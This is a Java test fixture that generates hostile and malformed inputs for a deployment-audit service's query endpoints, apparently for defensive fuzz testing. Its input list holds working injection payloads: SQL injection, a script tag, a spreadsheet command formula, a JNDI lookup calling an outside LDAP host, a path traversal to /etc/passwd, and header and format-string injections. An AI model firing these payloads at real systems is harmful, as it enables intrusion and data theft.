package io.deploytrail.integration.drills;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Questions that nobody asks who means well: a name and parameters, as the function URL takes them
/// and as an invocation does.
final class HostileQuestions {
  private static final int LARGE = 200_000;

  /// `isAboutNothing` if nothing that is stored can be meant.
  record Hostile(String question, Map<String, String> parameters, boolean isAboutNothing) {}

  /// Texts that mean something to a shell, a database, a browser, a spreadsheet, Java or DynamoDB.
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "\r\nX-Header: 1",
          "\u001b[2J\u202e",
          "\ud800",
          "'; DROP TABLE facts; --",
          "<script>alert(1)</script>",
          "=cmd|' /C calc'!A0",
          "${jndi:ldap://203.0.113.1/a}",
          "../../../../etc/passwd",
          "{\"$gt\":\"\"}",
          "%s%n%x",
          "a#b#c",
          "\ud83d\ude00".repeat(700),
          "x".repeat(LARGE));

  private static final List<String> TIMES =
      List.of(
          "",
          "now",
          "-1000000000-01-01T00:00:00Z",
          "+1000000000-12-31T23:59:59.999999999Z",
          "2026-02-30",
          "2026-11-20T25:00:00Z",
          "9".repeat(30) + "d",
          "-1d",
          "1e9h",
          "\u0662\u0660\u0662\u0666-11-20");

  private HostileQuestions() {}

  static List<Hostile> all() {
    var all = new ArrayList<Hostile>();
    for (var text : TEXTS) {
      all.add(about(text, "who", "eventId", text));
      all.add(about(text, "who", "accessKeyId", text));
      all.add(about(text, "who", "principal", text, "at", "2026-11-20T10:00:00Z"));
      all.add(about(text, "who", "record", text));
      all.add(about(text, "calls", "deployment", text));
      all.add(about(text, "changes", "resource", text, "from", "2026-11-20"));
      all.add(about(text, "deployments", "organization", text, "from", "2026-11-20"));
      all.add(about(text, "deployments", "organization", "acme", "project", text, "stack", text));
      all.add(about(text, "explain", "name", text));
    }
    tokens(all);
    times(all);
    forms(all);
    return all;
  }

  private static void tokens(List<Hostile> all) {
    for (var text :
        List.of("", "AAAA", "eyJhIjoiYiJ9", "%%%", "x".repeat(LARGE), "e30", "bnVsbA")) {
      all.add(hostile("deployments", "next", text));
      all.add(hostile("denied", "next", text));
      all.add(hostile("calls", "deployment", "acme/web/s1@1", "next", text));
      all.add(hostile("changes", "resource", "bucket-1", "next", text));
    }
  }

  private static void times(List<Hostile> all) {
    for (var time : TIMES) {
      all.add(hostile("deployments", "from", time));
      all.add(hostile("denied", "to", time));
      all.add(hostile("changes", "resource", "bucket-1", "from", time, "to", time));
      all.add(hostile("who", "accessKeyId", "ASIAROOT1", "at", time));
    }
    all.add(hostile("denied", "from", "2026-11-22", "to", "2026-11-19"));
    all.add(hostile("deployments", "from", "0001-01-01", "to", "9999-12-31"));
  }

  private static void forms(List<Hostile> all) {
    all.add(hostile("who"));
    all.add(hostile("who", "eventId", "a", "accessKeyId", "b"));
    all.add(hostile("who", "unknown", "x"));
    all.add(hostile("WHO", "eventId", "a"));
    all.add(hostile("", "eventId", "a"));
    all.add(hostile("drop", "eventId", "a"));
    all.add(hostile("x".repeat(LARGE)));
    all.add(hostile("calls"));
    all.add(hostile("calls", "deployment", "acme/web/s1@99999999999999999999999999"));
    all.add(hostile("calls", "deployment", "acme/web/s1@-1"));
    all.add(hostile("calls", "deployment", "/".repeat(5_000)));
    all.add(hostile("explain"));
    all.add(hostile("changes"));
    all.add(hostile("deployments", "allSessions", "perhaps"));
    all.add(hostile("deployments", "stack", "s1"));
    all.add(hostile("deployments", "x".repeat(LARGE), "y"));
    all.add(hostile("who", "record", "[".repeat(100_000)));
    all.add(hostile("who", "record", "{\"a\":".repeat(20_000)));
    all.add(
        hostile(
            "who", "record", "{\"eventTime\":\"+999999999-12-31T23:59:59Z\",\"eventID\":\"x\"}"));
    all.add(hostile("who", "record", "{}"));
    all.add(hostile("who", "record", "[]"));
    all.add(hostile("explain", "name", "-".repeat(LARGE)));
    all.add(hostile("explain", "name", "a-".repeat(3_000)));
  }

  private static Hostile about(String text, String question, String... parameters) {
    var isAboutNothing = !text.isBlank() && !question.equals("explain");
    return new Hostile(question, hostile(question, parameters).parameters(), isAboutNothing);
  }

  private static Hostile hostile(String question, String... parameters) {
    var all = new LinkedHashMap<String, String>();
    for (var number = 0; number < parameters.length; number += 2) {
      all.put(parameters[number], parameters[number + 1]);
    }
    return new Hostile(question, all, false);
  }

  /// Invocations and requests that are no question at all.
  static List<String> events() {
    return List.of(
        "{\"question\":\"who\",\"record\":" + "{\"a\":".repeat(1_500) + "7" + "}".repeat(1_501),
        "{\"question\":\"who\",\"eventId\":" + "7".repeat(5_000) + "}",
        "{\"question\":\"who\",\"eventId\":1e999999999}",
        "null",
        "[]",
        "7",
        "\"who\"",
        "{}",
        "{\"question\":null}",
        "{\"question\":7}",
        "{\"question\":[\"who\"]}",
        "{\"question\":{\"question\":\"who\"}}",
        "{\"question\":\"who\",\"eventId\":7}",
        "{\"question\":\"who\",\"eventId\":null}",
        "{\"question\":\"who\",\"eventId\":[\"a\"]}",
        "{\"question\":\"who\",\"record\":[]}",
        "{\"question\":\"who\",\"record\":{}}",
        "{\"question\":\"deployments\",\"allSessions\":7}",
        "{\"requestContext\":{\"http\":{}}}",
        "{\"requestContext\":{\"http\":{\"method\":\"GET\"}},\"rawPath\":\"//who\"}",
        "{\"requestContext\":{\"http\":{\"method\":\"GET\"}},\"rawPath\":\"/who/../calls\"}",
        "{\"requestContext\":{\"http\":{\"method\":\"DELETE\"}},\"rawPath\":\"/who\"}",
        "{\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"rawPath\":\"/calls\"}",
        "{\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"rawPath\":\"/who\"}",
        "{\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"rawPath\":\"/who\",\"body\":7}",
        "{\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"rawPath\":\"/who\",\"body\":\"%%\",\"isBase64Encoded\":true}",
        "{\"requestContext\":{\"http\":{\"method\":7}},\"rawPath\":{}}",
        "{\"requestContext\":{\"http\":{\"method\":\"GET\"}},\"rawPath\":\"/who\",\"queryStringParameters\":[]}",
        "{\"requestContext\":{\"http\":{\"method\":\"GET\"}},\"rawPath\":\"/who\",\"queryStringParameters\":{\"eventId\":{}}}",
        "{\"requestContext\":{\"http\":{\"method\":\"GET\"}},\"rawPath\":\"/who\",\"queryStringParameters\":null}");
  }
}
